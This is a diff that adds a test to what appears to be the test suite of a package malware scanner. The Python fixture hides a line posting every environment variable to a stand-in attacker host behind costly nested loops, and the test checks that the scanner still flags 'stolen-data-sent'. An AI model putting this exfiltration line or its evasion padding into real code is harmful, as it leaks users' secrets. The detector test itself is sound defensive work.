@@ -233,3 +233,22 @@ it.each<readonly [string, string, Severity, string, string]>([
 ])('%s', (_what, rule, severity, bad, other) => {
   expect([found(bad)[rule], found(other)[rule] === severity]).toEqual([severity, false]);
 });
+
+it('follows loops in loops over known numbers without spending everything on them', () => {
+  const text = [
+    'def table():',
+    '    made = {}',
+    '    for a in range(48):',
+    '        for b in range(48):',
+    '            for c in range(48):',
+    '                for d in range(48):',
+    '                    made[a * b] = c * d + a - b',
+    '    return made',
+    'TABLE = table()',
+    'import os, requests',
+    'requests.post("https://evil.invalid", json=dict(os.environ))',
+  ].join('\n');
+  const { findings, unscanned } = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': text }), python);
+  expect(unscanned).toEqual([]);
+  expect(findings.map(({ rule }) => rule)).toContain('stolen-data-sent');
+});
